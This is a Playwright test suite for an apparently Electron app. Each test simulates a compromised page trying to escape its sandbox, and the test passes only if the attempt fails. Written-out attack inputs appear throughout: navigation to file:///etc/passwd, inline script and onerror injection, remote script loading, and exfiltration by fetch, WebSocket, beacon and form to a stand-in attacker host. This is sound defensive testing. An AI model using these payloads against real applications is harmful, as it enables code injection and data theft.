// A page that was tricked into running foreign code tries to go elsewhere, to run more of it, or to send something out; each
// test is one attack and must fail.
import { readdirSync } from 'node:fs'
import type {} from '../../renderer/ui/house'
import { expect, HOME, test } from '../support/attacked'

test.describe('a page cannot go elsewhere', () => {
  for (const target of [
    'https://example.org/',
    'file:///etc/passwd',
    'app://blob/x',
    'data:text/html,hello',
    'javascript:window.taken=1',
  ]) {
    test(`by navigating to ${target}`, async ({ shared: { page } }) => {
      await page.evaluate((to) => void (location.href = to), target)
      await page.waitForTimeout(300)
      expect(page.url().split('#')[0]).toBe(HOME)
      expect(await page.evaluate(() => 'taken' in window)).toBe(false)
    })
  }

  test('by opening a window', async ({ shared: { app, page }, attacker }) => {
    const opened = await page.evaluate((url) => window.open(url) === null, attacker.url)
    expect(opened).toBe(true)
    expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1)
    expect(attacker.hits).toEqual([])
  })

  test('by a link with target=_blank', async ({ shared: { app, page }, attacker }) => {
    await page.evaluate((url) => {
      const link = Object.assign(document.createElement('a'), { href: url, target: '_blank' })
      document.body.append(link)
      link.click()
      link.remove()
    }, attacker.url)
    await page.waitForTimeout(300)
    expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1)
    expect(attacker.hits).toEqual([])
  })

  test('by a webview', async ({ shared: { app, page }, attacker }) => {
    const before = await app.evaluate(({ webContents }) => webContents.getAllWebContents().length)
    await page.evaluate((url) => {
      const view = document.createElement('webview')
      view.setAttribute('src', url)
      document.body.append(view)
    }, attacker.url)
    await page.waitForTimeout(500)
    expect(await app.evaluate(({ webContents }) => webContents.getAllWebContents().length)).toBe(before)
    expect(attacker.hits).toEqual([])
  })
})

test.describe('a page cannot run foreign code', () => {
  /** Runs after the evaluation has returned: code inside an evaluation by the debugger is exempt from the policy. */
  const outcome = (code: string) =>
    `new Promise((done) => setTimeout(() => { try { ${code}; done('ran') } catch (error) { done(error.name) } }))`

  test('by eval', async ({ shared: { page } }) => {
    expect(await page.evaluate(outcome("eval('1 + 1')"))).toBe('EvalError')
  })

  test('by new Function', async ({ shared: { page } }) => {
    expect(await page.evaluate(outcome("new Function('return 1')()"))).toBe('EvalError')
  })

  test('by an inline script or handler', async ({ shared: { page } }) => {
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.textContent = 'window.taken = true'
      document.head.append(script)
      const box = document.createElement('div')
      box.innerHTML = '<img src="app://house/none.png" onerror="window.taken = true">'
      document.body.append(box)
    })
    await page.waitForTimeout(300)
    expect(await page.evaluate(() => 'taken' in window)).toBe(false)
  })

  test('by a remote script', async ({ shared: { page }, attacker }) => {
    const answer = await page.evaluate(
      (src) =>
        new Promise((resolve) => {
          const script = Object.assign(document.createElement('script'), { src })
          script.onload = () => resolve('ran')
          script.onerror = () => resolve('refused')
          document.head.append(script)
        }),
      `${attacker.url}/x.js`,
    )
    expect(answer).toBe('refused')
    expect(attacker.hits).toEqual([])
  })

  test('by a worker made of text', async ({ shared: { page } }) => {
    const answer = await page.evaluate(
      () =>
        new Promise((resolve) => {
          try {
            const worker = new Worker(URL.createObjectURL(new Blob(['postMessage("ran")'])))
            worker.onmessage = () => resolve('ran')
            worker.onerror = () => resolve('refused')
          } catch {
            resolve('refused')
          }
        }),
    )
    expect(answer).toBe('refused')
  })

  test('by an attachment that is a page', async ({ shared: { page } }) => {
    const answer = await page.evaluate(async () => {
      const put = await window.house?.call('blob:put', {
        bytes: new TextEncoder().encode('<script>top.taken = true</script>'),
      })
      if (!put?.ok) return 'not stored'
      const response = await fetch(`app://blob/${put.value.id}`)
      return `${response.headers.get('content-type')} ${response.headers.get('content-security-policy')}`
    })
    expect(answer).toBe("application/octet-stream default-src 'none'; sandbox")
  })
})

test.describe('a page cannot send anything out', () => {
  test('by fetch, XMLHttpRequest, WebSocket, beacon or picture', async ({ shared: { page }, attacker }) => {
    const answers = await page.evaluate(async (url) => {
      const tried = (start: (done: (answer: string) => void) => void) =>
        new Promise<string>((resolve) => {
          setTimeout(() => resolve('refused'), 1000)
          try {
            start(resolve)
          } catch {
            resolve('refused')
          }
        })
      return Promise.all([
        fetch(url).then(
          () => 'sent',
          () => 'refused',
        ),
        tried((done) => {
          const request = new XMLHttpRequest()
          request.onload = () => done('sent')
          request.onerror = () => done('refused')
          request.open('GET', url)
          request.send()
        }),
        tried((done) => {
          const socket = new WebSocket(url.replace('http', 'ws'))
          socket.onopen = () => done('sent')
          socket.onerror = () => done('refused')
        }),
        tried((done) => {
          const image = new Image()
          image.onload = () => done('sent')
          image.onerror = () => done('refused')
          image.src = `${url}/x.png`
          navigator.sendBeacon(url, 'x')
        }),
      ])
    }, attacker.url)
    expect(answers).toEqual(['refused', 'refused', 'refused', 'refused'])
    expect(attacker.hits).toEqual([])
  })

  test('even past the policy, from main’s own network stack', async ({ shared: { app }, attacker }) => {
    const answer = await app.evaluate(async ({ session }, url) => {
      try {
        await session.defaultSession.fetch(url)
        return 'sent'
      } catch {
        return 'refused'
      }
    }, attacker.url)
    expect(answer).toBe('refused')
    expect(attacker.hits).toEqual([])
  })

  test('by a form', async ({ shared: { page }, attacker }) => {
    await page.evaluate((url) => {
      const form = Object.assign(document.createElement('form'), { action: url, method: 'post' })
      document.body.append(form)
      form.submit()
    }, attacker.url)
    await page.waitForTimeout(300)
    expect(attacker.hits).toEqual([])
    expect(page.url().split('#')[0]).toBe(HOME)
  })

  test('by downloading into a folder it names', async ({ shared: { page, saved } }) => {
    await page.evaluate(() => {
      const link = document.createElement('a')
      link.href = URL.createObjectURL(new Blob(['x']))
      link.download = 'taken.txt'
      link.click()
    })
    await page.waitForTimeout(300)
    expect(readdirSync(saved)).not.toContain('taken.txt')
  })
})
